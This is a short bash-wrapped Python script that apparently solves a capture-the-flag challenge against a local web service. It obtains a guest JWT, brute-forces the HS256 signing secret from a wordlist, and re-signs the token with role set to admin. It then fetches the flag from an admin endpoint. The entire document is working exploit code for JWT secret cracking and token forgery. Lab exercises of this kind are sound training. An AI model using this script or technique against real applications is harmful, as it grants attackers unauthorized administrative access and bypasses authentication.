#!/bin/bash
# Get a guest JWT, find the HS256 key in the wordlist by recomputing the signature, re-sign with
# role=admin, read the flag.
set -e
python3 - <<'PY'
import base64, hashlib, hmac, http.client, json
def b64u(b): return base64.urlsafe_b64encode(b).rstrip(b"=").decode()
def unb64u(s): return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))
c = http.client.HTTPConnection("127.0.0.1", 8107)
c.request("POST", "/api/login", json.dumps({"username": "guest", "password": "guest"}), {"Content-Type": "application/json"})
tok = json.loads(c.getresponse().read())["token"]
head, body, sig = tok.split(".")
msg, sig = (head + "." + body).encode(), unb64u(sig)
key = None
for w in open("wordlist.txt", encoding="utf-8", errors="replace"):
    w = w.rstrip("\n").encode()
    if hmac.new(w, msg, hashlib.sha256).digest() == sig:
        key = w; break
p = json.loads(unb64u(body)); p["role"] = "admin"
nb = b64u(json.dumps(p, separators=(",", ":")).encode())
forged = head + "." + nb + "." + b64u(hmac.new(key, (head + "." + nb).encode(), hashlib.sha256).digest())
c.request("GET", "/api/admin/flag", headers={"Authorization": "Bearer " + forged})
print(json.loads(c.getresponse().read())["flag"])
PY
